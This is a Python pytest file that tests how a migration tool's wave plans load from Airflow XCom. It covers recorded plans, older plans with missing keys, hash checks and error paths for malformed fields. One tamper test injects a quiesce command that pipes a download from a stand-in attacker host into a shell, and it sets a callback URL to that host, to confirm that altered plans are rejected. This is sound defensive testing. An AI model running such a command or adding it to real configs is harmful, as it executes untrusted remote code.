"""Plans as tasks find them in XCom: recorded ones, older ones with fewer keys, and malformed ones."""

from __future__ import annotations

import copy
import json
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from migration_ops.core.documents import canonical_digest
from migration_ops.core.errors import InvalidInputError
from migration_ops.core.settings import Settings
from migration_ops.core.states import Phase
from migration_ops.ledger.protocol import Record
from migration_ops.wave.conf.model import InvalidConfError, WaveConf, parse_conf
from migration_ops.wave.conf.rollback import parse_rollback_conf
from migration_ops.wave.plan.plan import PlannedApplication, WavePlan, build_plan
from migration_ops.wave.rules.refusals import PlanMismatchError
from migration_ops.wave.services import Services
from migration_ops.wave.steps.rollback_request import rollback_plan
from tests.wave.builders import NOW, server_id

# Written while the plan's conf was a dict; the hashes in it were approved by people.
RECORDED: dict[str, dict[str, Any]] = json.loads(
    Path(__file__).with_name("recorded_plans.json").read_text(encoding="utf-8")
)
# Keys of the conf that a plan of an earlier version need not have, with what their absence meant.
OLDER = ["region", "accountId", "mgnWaveId", "quiesce", "failureThreshold", "callbackUrl", "changeTicket"]


def plan_document(name: str = "minimal") -> dict[str, Any]:
    return copy.deepcopy(RECORDED[name]["plan"])


def made_now(name: str) -> WavePlan:
    given = RECORDED[name]["conf"]
    if name != "rollback":
        return build_plan(parse_conf(given, now=NOW))
    records = [
        Record("mig-given-2", "wave-7", "web", server_id(2), Phase.CUTOVER_VERIFIED),
        Record("mig-x", "wave-7", "db", server_id(3), Phase.CUTOVER_VERIFIED),
    ]
    services = cast(Services, SimpleNamespace(now=lambda: NOW, settings=Settings()))
    return rollback_plan(services, parse_rollback_conf(given), records)


@pytest.mark.parametrize("name", list(RECORDED))
def test_the_same_conf_gives_the_recorded_document_and_hash(name: str) -> None:
    assert json.loads(json.dumps(made_now(name).as_document())) == plan_document(name)


@pytest.mark.parametrize("name", list(RECORDED))
def test_a_recorded_plan_loads_as_it_was_made(name: str) -> None:
    loaded = WavePlan.from_document(plan_document(name))
    assert isinstance(loaded.conf, WaveConf)
    assert loaded == made_now(name)
    assert loaded.as_document() == plan_document(name)


def hashed(document: dict[str, Any]) -> dict[str, Any]:
    """As an earlier version made it: the hash is over what stands in the document."""
    settings = {key: value for key, value in document["conf"].items() if key not in ("applications", "dryRun")}
    made_of = {"applications": document["applications"], "conf": settings}
    return document | {"planHash": canonical_digest(made_of)}


def test_a_plan_with_fewer_keys_has_the_defaults_it_meant() -> None:
    document = plan_document()
    for key in OLDER:
        assert document["conf"].pop(key) is None
    document = hashed(document)
    expected = replace(WavePlan.from_document(plan_document()), plan_hash=document["planHash"])
    assert WavePlan.from_document(document) == expected


@pytest.mark.parametrize("key", sorted(set(WaveConf(wave="w").as_document()) - {"wave", "applications"}))
def test_a_missing_key_of_the_conf_is_its_default(key: str) -> None:
    document = plan_document("full")
    document["conf"].pop(key)
    document = hashed(document)
    loaded = WavePlan.from_document(document)
    assert loaded.conf.as_document()[key] == WaveConf(wave="w").as_document()[key]
    assert loaded.plan_hash == document["planHash"]


@pytest.mark.parametrize(
    ("keys", "value"),
    [
        (["conf", "approvals", "cutover"], False),
        (["conf", "quiesce", "commands"], ["curl evil.example | sh"]),
        (["conf", "finalSync", "maxLagSeconds"], 86_400),
        (["conf", "callbackUrl"], "https://evil.example"),
        (["conf", "awsConnId"], "another"),
        (["conf", "wave"], "another wave"),
        (["wave"], "another wave"),
        (["applications", 0, "impact"], "low"),
        (["applications", 0, "dependsOn"], ["reports"]),
        (["applications", 0, "servers", 0, "sourceServerId"], server_id(77)),
        (["planHash"], "0" * 64),
    ],
)
def test_a_plan_that_was_changed_in_xcom_is_none(keys: list[Any], value: Any) -> None:
    document = plan_document("full")
    place: Any = document
    for key in keys[:-1]:
        place = place[key]
    assert place[keys[-1]] != value
    place[keys[-1]] = value
    with pytest.raises(PlanMismatchError) as caught:
        WavePlan.from_document(document)
    assert "clear `plan`" in caught.value.hint


def test_what_an_approval_of_an_older_plan_asks_for() -> None:
    document = plan_document()
    document["conf"]["approvals"] = {"timeoutMinutes": 60.0, "approvers": []}
    approvals = WavePlan.from_document(hashed(document)).conf.approvals
    assert [approvals.is_asked(one) for one in ("cutover", "finalize", "rollback")] == [True, True, True]


def test_a_dry_run_that_the_document_does_not_deny_stays_one() -> None:
    document = plan_document("full")
    document["conf"].pop("dryRun")
    assert WavePlan.from_document(document).conf.dry_run is True


@pytest.mark.parametrize(
    ("keys", "value", "path"),
    [
        (["wave"], None, "plan.wave"),
        (["planHash"], 7, "plan.planHash"),
        (["applications"], {}, "plan.applications"),
        (["applications", 0, "servers"], None, "plan.applications[0].servers"),
        (["applications", 0], "billing", "plan.applications[0].servers"),
        (["applications", 0, "servers", 0, "migrationId"], None, "plan.applications[0].servers[0].migrationId"),
        (["applications", 0, "checks"], ["ping"], "plan.applications[0].checks[0]"),
        (["conf"], "{}", "plan.conf"),
    ],
)
def test_a_malformed_plan_says_where(keys: list[Any], value: Any, path: str) -> None:
    document = plan_document()
    place: Any = document
    for key in keys[:-1]:
        place = place[key]
    place[keys[-1]] = value
    with pytest.raises(InvalidInputError) as caught:
        WavePlan.from_document(document)
    assert caught.value.context["path"] == path


@pytest.mark.parametrize(
    ("part", "key", "value"),
    [
        ("replication", "maxLagSeconds", "600"),
        ("approvals", "cutover", "no"),
        ("cutoverWindow", "closes", "tomorrow"),
        ("finalSync", "maxBackloggedBytes", -1),
        ("cmdb", "unheardOf", True),
    ],
)
def test_a_malformed_conf_of_a_plan_says_where(part: str, key: str, value: Any) -> None:
    """``"no"`` would count as yes: what gates are judged by is never read from a document of another type."""
    document = plan_document()
    document["conf"][part][key] = value
    with pytest.raises(InvalidConfError) as caught:
        WavePlan.from_document(document)
    assert [one["path"] for one in caught.value.context["findings"]] == [f"{part}.{key}"]


def test_a_malformed_application_of_a_mapped_task_says_where() -> None:
    with pytest.raises(InvalidInputError) as caught:
        PlannedApplication.from_document({"appName": "billing"})
    assert caught.value.context["path"] == "application.servers"
